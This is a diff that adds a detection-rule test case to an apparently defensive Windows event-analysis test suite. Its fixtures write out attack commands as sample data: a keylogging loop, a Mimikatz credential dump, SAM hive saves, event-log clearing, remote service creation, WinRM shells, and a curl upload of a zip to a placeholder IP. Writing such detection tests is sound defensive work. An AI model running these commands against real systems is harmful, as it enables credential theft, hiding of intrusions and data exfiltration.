@@ -822,6 +822,46 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(proc(39, PS, 'powershell.exe & {. .\\GetToken.ps1; [MyProcess]::CreateProcessFromParent((Get-Process lsass).Id, "cmd.exe")}'))).toContain('Token Manipulation Or Parent Process Spoofing PowerShell Cmdlets');
   });
 
+  it('keyloggers, credential dumping functions and log clearing in PowerShell, spooler driver DLLs, WMI registry writes, ransom notes, remote services and tasks, WinRM shells, remote execution services, curl uploads; near misses are not', () => {
+    const S32 = 'C:\\Windows\\System32\\';
+    const PS = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
+    const block = (t: number, text: string): ReturnType<typeof makeEvent> => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
+    const KEY = 'PowerShell Keyboard Capture API (script block 4104)';
+    expect(hits([block(1, 'for ($c = 1; $c -le 254; $c++) { $s = [API.Win32]::GetAsyncKeyState($c) }')]).get(KEY)).toEqual({ level: 'medium', tactics: ['credential-access', 'collection'] });
+    expect(titlesOf(block(2, 'Get-Process | Where-Object { $_.MainWindowTitle }'))).not.toContain(KEY);
+    const DUMP = 'Credential Dumping Functions In PowerShell (script block 4104)';
+    expect(hits([block(3, 'Invoke-Mimikatz -DumpCreds')]).get(DUMP)).toEqual({ level: 'high', tactics: ['credential-access'] });
+    expect(titlesOf(block(4, 'reg save HKLM\\SAM sam.hiv; reg save HKLM\\SYSTEM sys.hiv'))).toContain(DUMP);
+    expect(titlesOf(block(5, 'reg save HKLM\\SOFTWARE\\Vendor backup.hiv'))).not.toContain(DUMP);
+    const CLEAR = 'Event Logs Cleared From A Script Block (script block 4104)';
+    expect(hits([block(6, 'wevtutil cl Security; wevtutil cl System')]).get(CLEAR)).toEqual({ level: 'high', tactics: ['stealth'] });
+    expect(titlesOf(block(7, 'wevtutil qe Security /c:5'))).not.toContain(CLEAR);
+    const SPOOL = 'Print Spooler Wrote A Driver DLL (Sysmon 11)';
+    expect(hits([sysmon(8, 11, { Image: `${S32}spoolsv.exe`, TargetFilename: `${S32}spool\\drivers\\x64\\3\\New\\evil.dll` })]).get(SPOOL)).toEqual({ level: 'low', tactics: ['persistence', 'privilege-escalation'] });
+    expect(titlesOf(sysmon(9, 11, { Image: `${S32}spoolsv.exe`, TargetFilename: `${S32}spool\\PRINTERS\\00012.SPL` }))).not.toContain(SPOOL);
+    const WMIREG = 'Command Or Auto-Start Registry Value Written By The WMI Provider Host (Sysmon 13)';
+    expect(hits([sysmon(10, 13, { EventType: 'SetValue', Image: `${S32}wbem\\WmiPrvSE.exe`, TargetObject: 'HKU\\S-1-5-21-1-2-3-1001_Classes\\x\\shell\\open\\command\\(Default)', Details: 'cmd.exe /c x.exe' })]).get(WMIREG)).toEqual({ level: 'medium', tactics: ['execution', 'stealth'] });
+    expect(titlesOf(sysmon(11, 13, { EventType: 'SetValue', Image: `${S32}wbem\\WmiPrvSE.exe`, TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Wbem\\CIMOM\\LastServiceStart', Details: 'x' }))).not.toContain(WMIREG);
+    const NOTE = 'Ransom Note Style File Written (Sysmon 11)';
+    expect(hits([sysmon(12, 11, { Image: 'C:\\Users\\Public\\x.exe', TargetFilename: 'C:\\Users\\bob\\Desktop\\HOW_TO_DECRYPT.txt' })]).get(NOTE)).toEqual({ level: 'medium', tactics: ['impact'] });
+    expect(titlesOf(sysmon(13, 11, { Image: 'C:\\Users\\Public\\x.exe', TargetFilename: 'C:\\Users\\bob\\Desktop\\notes.txt' }))).not.toContain(NOTE);
+    const REMOTE = 'Service Or Scheduled Task Managed On Another Host From The Command Line';
+    expect(hits([proc(14, `${S32}sc.exe`, 'sc \\\\srv2 create upd binPath= "cmd /c C:\\Windows\\Temp\\x.exe"')]).get(REMOTE)).toEqual({ level: 'medium', tactics: ['execution', 'lateral-movement'] });
+    expect(titlesOf(proc(15, `${S32}schtasks.exe`, 'schtasks /create /s srv2 /tn upd /tr C:\\x.exe /sc once /st 10:00'))).toContain(REMOTE);
+    expect(titlesOf(proc(16, `${S32}sc.exe`, 'sc \\\\srv2 query upd'))).not.toContain(REMOTE);
+    expect(titlesOf(proc(17, `${S32}schtasks.exe`, 'schtasks /query /s srv2'))).not.toContain(REMOTE);
+    const WINRM = 'Remote Shell Through WinRM From The Command Line';
+    expect(hits([proc(18, `${S32}winrs.exe`, 'winrs -r:srv2 cmd /c whoami')]).get(WINRM)).toEqual({ level: 'low', tactics: ['lateral-movement'] });
+    expect(titlesOf(proc(19, PS, 'powershell -c Enter-PSSession -ComputerName srv2'))).toContain(WINRM);
+    expect(titlesOf(proc(20, PS, 'powershell -c Invoke-Command -ScriptBlock { hostname }'))).not.toContain(WINRM);
+    const SVC = 'Remote Execution Service Or Its Child Process';
+    expect(hits([sysmon1(21, `${S32}cmd.exe`, 'cmd.exe', { ParentImage: 'C:\\Windows\\PSEXESVC.exe' })]).get(SVC)).toEqual({ level: 'medium', tactics: ['execution', 'lateral-movement'] });
+    expect(titlesOf(sysmon1(22, `${S32}cmd.exe`, 'cmd.exe', { ParentImage: `${S32}services.exe` }))).not.toContain(SVC);
+    const CURL = 'File Uploaded With Curl';
+    expect(hits([proc(23, `${S32}curl.exe`, 'curl.exe -F "file=@C:\\Users\\Public\\out.zip" https://203.0.113.9/upload')]).get(CURL)).toEqual({ level: 'low', tactics: ['exfiltration'] });
+    expect(titlesOf(proc(24, `${S32}curl.exe`, 'curl.exe -o C:\\Users\\Public\\a.zip https://example.org/a.zip'))).not.toContain(CURL);
+  });
+
   const crate = path.join(corpora, 'evtx', 'evtx-crate');
   it.skipIf(!existsSync(crate))('the benign captures give no high or critical built-in hit', () => {
     const files = readdirSync(crate).filter((f) => f.endsWith('.evtx'));
